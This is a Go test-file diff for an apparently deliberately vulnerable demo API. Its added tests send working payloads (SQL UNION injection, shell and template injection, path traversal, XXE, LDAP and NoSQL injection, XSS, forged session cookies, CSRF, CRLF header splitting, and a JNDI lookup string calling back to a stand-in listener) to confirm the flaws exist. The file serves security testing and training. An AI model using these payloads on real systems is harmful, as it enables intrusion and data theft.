@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/json"
 	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -78,6 +79,19 @@ func TestTheBareAPIIsAsVulnerableAsItSays(t *testing.T) {
 		{"an order in another's name at a price of one's own", "POST", "/orders", `{"customer_id":"bob","item":"Gold","quantity":-1,"total":0,"status":"delivered"}`, 201, `"status":"delivered"`},
 		{"HTML is reflected", "GET", "/greet?name=%3Cscript%3Ealert(1)%3C/script%3E", "", 200, "<script>alert(1)</script>"},
 		{"a shell runs what it is given", "POST", "/tools/ping", `{"host":"x; echo $((6*7))"}`, 200, "42"},
+		{"SQL injection through a field of the body", "POST", "/orders/search", `{"text":"zz' UNION SELECT id, name, card_number, 1, credit, role, email, 1 FROM customers -- "}`, 200, "378282246310005"},
+		{"a shell runs what a field says", "POST", "/tools/label", `{"text":"x; echo $((6*7))"}`, 200, "42"},
+		{"a template sees other customers", "POST", "/tools/letter", `{"customer":"alice","text":"{{.all}}"}`, 200, "378282246310005"},
+		{"a template computes", "POST", "/tools/letter", `{"customer":"alice","text":"{{mul 6 7}}"}`, 200, "42"},
+		{"a path leads out of the folder", "GET", "/documents?file=../partners.txt", "", 200, "correct-horse-4711"},
+		{"a path that is encoded twice, too", "GET", "/documents?file=%252e%252e%255cpartners.txt", "", 200, "correct-horse-4711"},
+		{"an LDAP filter is closed and another begun", "GET", "/directory?name=*)(id=*))(%7C(id=*", "", 200, `"carol"`},
+		{"an external entity reads a file", "POST", "/orders/import", `<!DOCTYPE order [<!ENTITY x SYSTEM "file:///partners.txt">]><order><item>&x;</item></order>`, 200, "correct-horse-4711"},
+		{"an operator is a password", "POST", "/login", `{"email":{"$gt":""},"password":{"$ne":""}}`, 200, `"customer":"alice"`},
+		{"a review is markup", "POST", "/reviews/preview", `{"title":"x","text":"<img src=x onerror=alert(1)>"}`, 200, "<img src=x onerror=alert(1)>"},
+		{"the folder is listed", "GET", "/files/", "", 200, "partners.txt"},
+		{"a developer's page is there", "GET", "/debug/env", "", 200, "DB_PASSWORD"},
+		{"TRACE tells the headers", "TRACE", "/orders", "", 200, "Accept-Encoding"},
 		{"an export without login", "GET", "/admin/export", "", 200, "378282246310005"},
 		{"an error shows SQL and stack", "GET", "/orders?status=%27", "", 500, "SELECT * FROM orders"},
 		{"an error shows the stack", "POST", "/orders", `{`, 500, "internal/demo/demo.go"},
@@ -121,6 +135,63 @@ func TestTheAPIAlsoWorks(t *testing.T) {
 			t.Errorf("got %s", body)
 		}
 	})
+}
+
+// Sessions of the API's own, and what other sites' pages do with them.
+func TestTheBareAPIBelievesItsCookies(t *testing.T) {
+	srv := start(t, t.TempDir())
+	for _, tt := range []struct {
+		name, method, target, contentType, body string
+		header, value                           string
+		want                                    string
+	}{
+		{"anybody makes carol's session", "GET", "/me", "", "", "Cookie", "session=Y2Fyb2w", `"id":"carol"`},
+		{"a form of another site changes an address", "POST", "/me/email", "application/x-www-form-urlencoded", "email=mallory%40evil.example", "Cookie", "session=Y2Fyb2w", "mallory@evil.example"},
+		{"a form that looks like JSON, too", "POST", "/me/email", "text/plain", `{"email":"mallory2@evil.example"}`, "Cookie", "session=Y2Fyb2w", "mallory2@evil.example"},
+		{"the log looks up what a caller names", "GET", "/health", "", "", "User-Agent", "${${lower:J}ndi:ldap://ADDRESS/x}", ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			l, err := net.Listen("tcp", "127.0.0.1:0")
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer l.Close()
+			req, err := http.NewRequestWithContext(t.Context(), tt.method, srv.URL+tt.target, strings.NewReader(tt.body))
+			if err != nil {
+				t.Fatal(err)
+			}
+			req.Header.Set("Content-Type", tt.contentType)
+			req.Header.Set(tt.header, strings.ReplaceAll(tt.value, "ADDRESS", l.Addr().String()))
+			resp, err := srv.Client().Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer resp.Body.Close()
+			if b, err := io.ReadAll(resp.Body); err != nil || !strings.Contains(string(b), tt.want) {
+				t.Errorf("got %s %v, want %q", b, err, tt.want)
+			}
+			if tt.want == "" {
+				if err := l.(*net.TCPListener).SetDeadline(time.Now().Add(5 * time.Second)); err != nil {
+					t.Fatal(err)
+				}
+				if _, err := l.Accept(); err != nil {
+					t.Errorf("nobody called: %v", err)
+				}
+			}
+		})
+	}
+}
+
+func TestTheBareAPISplitsAnswers(t *testing.T) {
+	srv := start(t, t.TempDir())
+	resp, err := srv.Client().Transport.RoundTrip(httptest.NewRequestWithContext(t.Context(), "GET", srv.URL+"/go?to=x%0d%0aX-Planted:+yes", nil))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if resp.Header.Get("X-Planted") != "yes" {
+		t.Errorf("got %v", resp.Header)
+	}
 }
 
 func TestOrdersAreStreamed(t *testing.T) {
@@ -174,6 +245,7 @@ func TestTheMachineIsGuarded(t *testing.T) {
 		{"a caller without an address is refused", func(r *http.Request) { r.RemoteAddr = "" }, 403},
 		{"another host name is refused", func(r *http.Request) { r.Host = "evil.example:80" }, 403},
 		{"another address is refused", func(r *http.Request) { r.Host = "192.0.2.1" }, 403},
+		{"a name in a query that looks like loopback is refused", func(r *http.Request) { r.Host = "127.0.0.1.evil.example" }, 403},
 		{"a page of another origin is refused", func(r *http.Request) { r.Header.Set("Origin", "https://evil.example") }, 403},
 		{"a cross-site fetch is refused", func(r *http.Request) { r.Header.Set("Sec-Fetch-Site", "cross-site") }, 403},
 	} {
@@ -205,13 +277,24 @@ func TestTheShellCannotWriteFilesOrStay(t *testing.T) {
 	}
 }
 
-func TestTheDocumentNamesEveryOperation(t *testing.T) {
+func TestTheDocumentsNameEveryOperation(t *testing.T) {
 	srv := start(t, t.TempDir())
-	b, err := demo.OpenAPI.ReadFile("orders.openapi.yaml")
-	if err != nil {
-		t.Fatal(err)
+	seen := 0
+	for _, name := range []string{"orders.openapi.yaml", "shop.openapi.yaml"} {
+		b, err := demo.OpenAPI.ReadFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		seen += served(t, srv, b)
 	}
-	doc, err := libopenapi.NewDocument(b)
+	if seen != 24 {
+		t.Errorf("the documents name %d operations, the API has 24", seen)
+	}
+}
+
+func served(t *testing.T, srv *httptest.Server, spec []byte) (seen int) {
+	t.Helper()
+	doc, err := libopenapi.NewDocument(spec)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -219,7 +302,6 @@ func TestTheDocumentNamesEveryOperation(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	seen := 0
 	for path, item := range model.Model.Paths.PathItems.FromOldest() {
 		for method, op := range item.GetOperations().FromOldest() {
 			seen++
@@ -229,13 +311,15 @@ func TestTheDocumentNamesEveryOperation(t *testing.T) {
 			if strings.HasSuffix(path, "/events") {
 				continue // does not end; see TestOrdersAreStreamed
 			}
+			if path == "/go" {
+				continue // has an answer of its own; see TestTheBareAPISplitsAnswers
+			}
 			target := strings.NewReplacer("{orderId}", "ord_1001", "{customerId}", "bob").Replace(path)
-			if status, body := call(t, srv, strings.ToUpper(method), target, "{}"); status == 404 || status == 405 {
+			status, body := call(t, srv, strings.ToUpper(method), target, "{}")
+			if (status == 404 || status == 405) && !strings.Contains(body, `"not found"`) {
 				t.Errorf("%s %s is not served: %d %s", method, path, status, body)
 			}
 		}
 	}
-	if seen != 12 {
-		t.Errorf("the document names %d operations, the API has 12", seen)
-	}
+	return seen
 }
